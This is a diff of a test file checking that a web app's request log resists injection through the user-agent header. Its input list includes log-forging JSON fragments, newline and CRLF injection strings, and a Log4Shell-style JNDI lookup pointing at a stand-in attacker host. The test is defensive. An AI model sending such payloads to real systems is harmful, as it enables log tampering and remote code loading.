@@ -113,10 +113,10 @@ describe("quality rows 49, 50: what is taken along", () => {
 
   test("a line of the log stays one, whoever asks with whatever program", async () => {
     const visitor = own.newVisitor()
-    const before = (await own.log()).length
+    const path = "/a/aurora/asked-by-programs"
     const agents = ['x","level":60,"msg":"forged', "x\\n{}", "\u00ff\u0085x", "${jndi:ldap://evil.example}", "%0a%0d"]
-    for (const agent of agents) await visitor.get("/a/aurora/login", { headers: { "user-agent": agent } })
-    const asked = async () => (await own.log()).slice(before).filter(({ msg }) => msg === "request")
+    for (const agent of agents) await visitor.get(path, { headers: { "user-agent": agent } })
+    const asked = async () => (await own.log()).filter((line) => line.msg === "request" && line.path === path)
     await expect.poll(async () => (await asked()).length).toBe(agents.length)
     expect((await own.log()).filter(({ msg, level }) => msg === "forged" || level === 60)).toEqual([])
   })
